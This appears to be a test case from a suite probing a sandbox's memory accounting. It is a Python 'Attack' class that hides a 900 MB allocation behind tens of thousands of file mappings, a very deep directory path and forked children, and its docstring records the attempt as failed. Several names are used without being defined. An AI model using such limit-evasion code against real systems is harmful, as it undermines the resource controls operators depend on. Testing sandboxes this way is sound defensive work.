"""Success: mappings that take long to list prevent memory from being counted.

Outcome: failed: more memory than the limit
"""

import time

READ, SHARED = 1, 1


class Attack(Scene):
    def construct(self):
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long)
        for _ in range(12):
            os.mkdir("d" * 250)
            os.chdir("d" * 250)
        with open("mapped", "wb") as file:
            file.write(bytes(8192))
        mapped = os.open("mapped", os.O_RDONLY)
        for number in range(60_000):  # alternating, so that they are not merged
            libc.mmap(None, 4096, READ, SHARED, mapped, 4096 * (number % 2))
        for _ in range(3):
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
        time.sleep(1)
        hoard = b"x" * (900 << 20)
        time.sleep(0.45)
        del hoard
